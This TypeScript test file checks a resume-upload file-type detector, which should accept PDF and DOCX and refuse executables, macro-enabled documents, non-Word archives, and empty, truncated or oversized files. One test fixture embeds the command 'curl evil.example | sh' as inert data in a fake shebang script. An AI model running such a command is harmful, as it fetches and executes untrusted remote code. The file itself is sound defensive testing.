import { zipSync, strToU8 } from 'fflate';
import { detectResumeFileType } from '../../../api/resumes/detect-file-type';
import { MAX_RESUME_BYTES } from '../../../api/resumes/resume-limits';
import { generateResumeDocx, generateResumePdf } from '../../support/resume-fixtures';

const bytes = (...parts: Array<string | number[]>) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));
const padded = (head: Buffer, size: number, tail = '') => {
  const out = Buffer.alloc(size, 0x20);
  head.copy(out, 0);
  out.write(tail, size - tail.length, 'latin1');
  return out;
};

describe('detectResumeFileType', () => {
  let pdf: Buffer;
  let docx: Uint8Array;
  beforeAll(async () => {
    pdf = await generateResumePdf(3);
    docx = generateResumeDocx(3);
  });

  it('accepts a PDF and a DOCX by their bytes', () => {
    expect(detectResumeFileType(pdf)).toMatchObject({ isAccepted: true, kind: 'pdf', mimeType: 'application/pdf', extension: '.pdf' });
    expect(detectResumeFileType(docx)).toMatchObject({ isAccepted: true, kind: 'docx', extension: '.docx' });
  });

  it.each([
    ['an ELF executable renamed .pdf', bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], '%PDF-1.7 %%EOF'), 'executable'],
    ['a Windows PE (MZ) executable', bytes('MZ\x90\x00\x03', '\x00'.repeat(100), 'This program cannot be run in DOS mode. %PDF-1.4 %%EOF'), 'executable'],
    ['a 64-bit Mach-O binary', bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1], ' '.repeat(80)), 'executable'],
    ['a shebang script', bytes('#!/bin/sh\ncurl evil.example | sh\n%PDF-1.4\n%%EOF'), 'executable'],
    ['a legacy Word .doc (OLE container)', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], ' '.repeat(600)), 'legacy_doc'],
    ['an empty ZIP archive', bytes([0x50, 0x4b, 0x05, 0x06], '\x00'.repeat(18)), 'not_docx_zip'],
    ['plain text with a .pdf name', bytes('Jane Doe\nSoftware Engineer\n'.repeat(10)), 'unsupported'],
    ['a PDF signature that does not open the file', bytes(' \n%PDF-1.7\n', 'x'.repeat(100), '\n%%EOF'), 'unsupported'],
  ])('refuses %s', (_what, file, reason) => {
    const result = detectResumeFileType(file);
    expect(result).toMatchObject({ isAccepted: false, reason });
    if (!result.isAccepted) expect(result.message).toMatch(/\w{4,}/);
  });

  it('refuses a ZIP archive that is not a Word document', () => {
    const zip = zipSync({ 'resume.txt': strToU8('Jane Doe'), 'photo.png': new Uint8Array(50) });
    expect(detectResumeFileType(zip)).toMatchObject({ isAccepted: false, reason: 'not_docx_zip' });
    // An .xlsx has [Content_Types].xml too, but no word/document.xml.
    const xlsx = zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<workbook/>') });
    expect(detectResumeFileType(xlsx)).toMatchObject({ isAccepted: false, reason: 'not_docx_zip' });
  });

  it('refuses a macro-enabled document renamed .docx', () => {
    const docm = zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w:document/>'), 'word/vbaProject.bin': new Uint8Array(64) });
    expect(detectResumeFileType(docm)).toMatchObject({ isAccepted: false, reason: 'macro_enabled' });
  });

  it('refuses empty and cut-off uploads', () => {
    expect(detectResumeFileType(new Uint8Array(0))).toMatchObject({ isAccepted: false, reason: 'empty' });
    expect(detectResumeFileType(pdf.subarray(0, Math.floor(pdf.length / 2)))).toMatchObject({ isAccepted: false, reason: 'truncated' });
    expect(detectResumeFileType(bytes('%PDF-1.7\n%%EOF'))).toMatchObject({ isAccepted: false, reason: 'truncated' });
    expect(detectResumeFileType(docx.subarray(0, docx.length - 30))).toMatchObject({ isAccepted: false, reason: 'truncated' });
  });

  it('refuses one byte over 10 MB as too large, and accepts exactly 10 MB', () => {
    const head = Buffer.from('%PDF-1.7\n', 'latin1');
    expect(detectResumeFileType(padded(head, MAX_RESUME_BYTES + 1, '\n%%EOF\n'))).toMatchObject({ isAccepted: false, reason: 'too_large' });
    expect(detectResumeFileType(padded(head, MAX_RESUME_BYTES, '\n%%EOF\n'))).toMatchObject({ isAccepted: true, kind: 'pdf' });
    // Too large wins even for an executable: the size is checked before anything is read.
    expect(detectResumeFileType(padded(Buffer.from('MZ'), MAX_RESUME_BYTES + 1))).toMatchObject({ reason: 'too_large' });
  });
});
